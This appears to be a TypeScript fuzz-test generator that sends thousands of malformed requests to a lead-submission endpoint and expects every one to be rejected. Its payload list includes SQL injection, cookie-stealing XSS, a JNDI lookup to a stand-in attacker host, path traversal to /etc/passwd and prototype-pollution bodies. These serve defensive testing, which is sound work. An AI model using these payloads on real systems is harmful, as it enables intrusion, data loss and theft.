import { LEAD_INPUT_FIELDS } from "@vantreo/contracts/core";
import { VALID_CONTACT } from "./test-app";

/** A generated bad request: a name to replay it by, the body and its content type. */
export type Hostile = { name: string; body: string | Uint8Array; contentType?: string };

// A seeded generator, so a failure names a case that can be replayed.
function random(seed: number) {
  let state = seed;
  return () => {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
    return state / 2 ** 31;
  };
}

// Every field of the public lead body, as the lead record declares them (`LEAD_FIELDS`).
const FIELDS = LEAD_INPUT_FIELDS;
const WRONG_TYPES: unknown[] = [42, -1.5, true, false, [], ["a"], { nested: "object" }, 1e308];
const INJECTIONS = [
  "'; DROP TABLE leads; --",
  '" OR 1=1 --',
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "\u0000\u0001\u0002",
];

/**
 * Thousands of bad requests to the lead endpoint, from a fixed seed: every field with every wrong
 * type, injection payloads where they make the lead invalid, huge strings, deep nesting,
 * prototype-pollution keys, non-objects, invalid UTF-8, wrong content types and random junk.
 * Every one of them deserves a 4xx.
 */
export function* hostileRequests(): Generator<Hostile> {
  const next = random(20_250_616);
  // Every field with every wrong type, alone and with a valid lead around it.
  for (const field of FIELDS) {
    for (const value of WRONG_TYPES) {
      if (field === "metadata" && typeof value === "object" && !Array.isArray(value)) continue;
      yield {
        name: `${field}=${JSON.stringify(value)}`,
        body: JSON.stringify({ ...VALID_CONTACT, [field]: value }),
      };
      yield {
        name: `only ${field}=${JSON.stringify(value)}`,
        body: JSON.stringify({ leadType: "contact", [field]: value }),
      };
    }
  }
  // Injection payloads where they make the lead invalid (as e-mail, or names that strip to nothing).
  for (const payload of INJECTIONS) {
    yield { name: `email ${payload}`, body: JSON.stringify({ ...VALID_CONTACT, email: payload }) };
    yield {
      name: `names ${payload}`,
      body: JSON.stringify({
        ...VALID_CONTACT,
        firstName: "<b></b>",
        lastName: payload.replace(/[^<>]/g, ""),
        message: payload,
      }),
    };
  }
  // Huge strings: within the body limit (rule failures) and over it (413).
  for (const size of [5001, 20_000, 60_000]) {
    yield {
      name: `message of ${size}`,
      body: JSON.stringify({ ...VALID_CONTACT, message: "m".repeat(size) }),
    };
  }
  yield {
    name: "body over the limit",
    body: JSON.stringify({ ...VALID_CONTACT, company: "c".repeat(70_000) }),
  };
  // Deep nesting, up to what fits in the body limit.
  for (const depth of [100, 1000, 10_000, 30_000]) {
    yield {
      name: `array depth ${depth}`,
      body: `{"metadata":${"[".repeat(depth)}${"]".repeat(depth)}}`,
    };
    yield { name: `object depth ${depth}`, body: `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}` };
  }
  // Prototype pollution attempts.
  for (const body of [
    '{"__proto__":{"isAdmin":true},"leadType":"contact"}',
    '{"constructor":{"prototype":{"polluted":true}},"email":"x"}',
    `{"metadata":{"__proto__":{"polluted":true}},"leadType":"contact","email":1}`,
    '{"leadType":"contact","__proto__":null}',
  ]) {
    yield { name: `prototype ${body}`, body };
  }
  // Not an object, not JSON, not UTF-8.
  for (const body of [
    "null",
    "1",
    '"lead"',
    "[]",
    "true",
    "",
    " ",
    "{",
    "{}}",
    "{'a':1}",
    "NaN",
    '{"a":1,}',
    "\uFEFF{",
  ]) {
    yield { name: `json ${JSON.stringify(body)}`, body };
  }
  for (let n = 0; n < 200; n += 1) {
    const bytes = new Uint8Array(1 + Math.floor(next() * 64));
    for (let index = 0; index < bytes.length; index += 1)
      bytes[index] = 0x80 + Math.floor(next() * 0x80);
    yield { name: `invalid utf-8 #${n}`, body: bytes };
  }
  // Wrong content types, with a perfectly valid lead inside.
  for (const contentType of [
    "text/plain",
    "text/html",
    "application/xml",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=xyz",
    "application/json; charset=utf-16",
    "application/javascript",
    "",
  ]) {
    yield { name: `content type ${contentType}`, body: JSON.stringify(VALID_CONTACT), contentType };
  }
  // Random structural fuzz: valid leads with a random field replaced by random junk.
  const junk = (): unknown => {
    const pick = Math.floor(next() * 6);
    if (pick === 0) return Math.floor(next() * 1e9);
    if (pick === 1) return next() > 0.5;
    if (pick === 2) return Array.from({ length: Math.floor(next() * 5) }, junk);
    if (pick === 3) return { [String.fromCharCode(97 + Math.floor(next() * 26))]: junk() };
    if (pick === 4) return null;
    return 3.14;
  };
  for (let n = 0; n < 3200; n += 1) {
    const field = FIELDS[Math.floor(next() * FIELDS.length)] ?? "email";
    const value = junk();
    if (value === null) continue;
    if (field === "metadata" && typeof value === "object" && !Array.isArray(value)) continue;
    yield {
      name: `fuzz #${n} ${field}`,
      body: JSON.stringify({ ...VALID_CONTACT, [field]: value }),
    };
  }
}
